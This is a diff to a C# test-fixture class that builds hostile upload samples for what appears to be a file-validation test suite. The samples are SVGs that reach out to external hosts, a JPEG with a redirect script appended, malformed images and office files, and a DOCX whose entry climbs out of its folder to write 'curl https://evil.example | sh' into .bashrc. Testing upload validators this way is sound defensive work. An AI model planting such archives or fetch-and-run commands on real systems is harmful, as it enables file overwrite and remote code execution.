@@ -147,6 +147,18 @@ public static class HostileFiles
         <svg xmlns="http://www.w3.org/2000/svg" width="200" height="100"><foreignObject width="200" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"></iframe></body></foreignObject></svg>
         """;
 
+    public const string SvgWithImage = """
+        <svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><image href="data:image/png;base64,iVBORw0KGgo=" width="100" height="100"/></svg>
+        """;
+
+    public const string SvgWithCssUrl = """
+        <svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><rect width="100" height="100" style="fill: url('https://tracker.example/pixel.svg#p')"/></svg>
+        """;
+
+    public const string SvgWithoutSize = """
+        <svg xmlns="http://www.w3.org/2000/svg"><rect width="100" height="100"/></svg>
+        """;
+
     /// <summary>The "billion laughs": ten levels of entities each ten times the previous, a gigabyte from a kilobyte.</summary>
     public static string SvgBillionLaughs()
     {
@@ -225,6 +237,21 @@ public static class HostileFiles
 
         return Concat([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A], PngChunk("IHDR", header), PngChunk("IDAT", idat.ToArray()), PngChunk("IEND", []));
     }
+
+    /// <summary>A 1 × 1 GIF: header, screen descriptor, a two-colour palette, one image block, the trailer.</summary>
+    public static byte[] Gif() => Concat("GIF89a"u8.ToArray(),
+        [1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3B]);
+
+    /// <summary>A PNG cut short in its image data: no IEND.</summary>
+    public static byte[] TruncatedPng()
+    {
+        var png = SampleImages.Png(PhotoWidth, PhotoHeight);
+        return png[..(png.Length - 40)];
+    }
+
+    /// <summary>A valid JPEG with an HTML page after its end-of-image marker.</summary>
+    public static byte[] JpegWithHtmlAfterEnd() => Concat(SampleImages.Jpeg(PhotoWidth, PhotoHeight),
+        "<html><body><script>document.location='https://evil.example'</script></body></html>"u8.ToArray());
 
     /// <summary>A PNG padded to one byte more than the image limit.</summary>
     public static byte[] OneByteOverImageLimit(long limit)
@@ -311,6 +338,33 @@ public static class HostileFiles
         return bytes;
     }
 
+    /// <summary>A valid DOCX with an extra entry whose name climbs out of the folder it would be unpacked into.</summary>
+    public static byte[] DocxWithPathTraversal() => WithEntry(Docx(), "../../../home/user/.bashrc", "curl https://evil.example | sh");
+
+    /// <summary>A valid DOCX whose document part is marked encrypted (general purpose flag bit 0) in both of its headers.</summary>
+    public static byte[] DocxWithEncryptedPart()
+    {
+        var docx = Docx();
+        var name = Encoding.ASCII.GetBytes("word/document.xml");
+        for (var at = 0; at + 46 < docx.Length; at++)
+        {
+            if (docx[at] == 'P' && docx[at + 1] == 'K' && docx[at + 2] == 3 && docx[at + 3] == 4 && docx.AsSpan(at + 30).StartsWith(name))
+            {
+                docx[at + 6] |= 1;
+            }
+            else if (docx[at] == 'P' && docx[at + 1] == 'K' && docx[at + 2] == 1 && docx[at + 3] == 2 && docx.AsSpan(at + 46).StartsWith(name))
+            {
+                docx[at + 8] |= 1;
+            }
+        }
+
+        return docx;
+    }
+
+    /// <summary>An OpenDocument presentation: a real ODF file, but not one of the two ODF formats accepted.</summary>
+    public static byte[] Odp() => OpenDocument("application/vnd.oasis.opendocument.presentation",
+        "<office:body><office:presentation/></office:body>");
+
     public static byte[] Odt() => OpenDocument("application/vnd.oasis.opendocument.text",
         "<office:body><office:text><text:p>Regulamin naboru</text:p></office:text></office:body>");
 
@@ -319,6 +373,18 @@ public static class HostileFiles
 
     /// <summary>A plain ZIP archive: none of the four office formats.</summary>
     public static byte[] PlainZip() => Zip(("notatki.txt", "Notatki ze spotkania"), ("plan.txt", "Plan szkolenia"));
+
+    private static byte[] WithEntry(byte[] zip, string name, string content)
+    {
+        using var stream = new MemoryStream();
+        stream.Write(zip);
+        using (var archive = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
+        {
+            Write(archive, name, content);
+        }
+
+        return stream.ToArray();
+    }
 
     /// <summary>ODF: the first entry is <c>mimetype</c>, stored, then the manifest and the content.</summary>
     private static byte[] OpenDocument(string mimeType, string body)
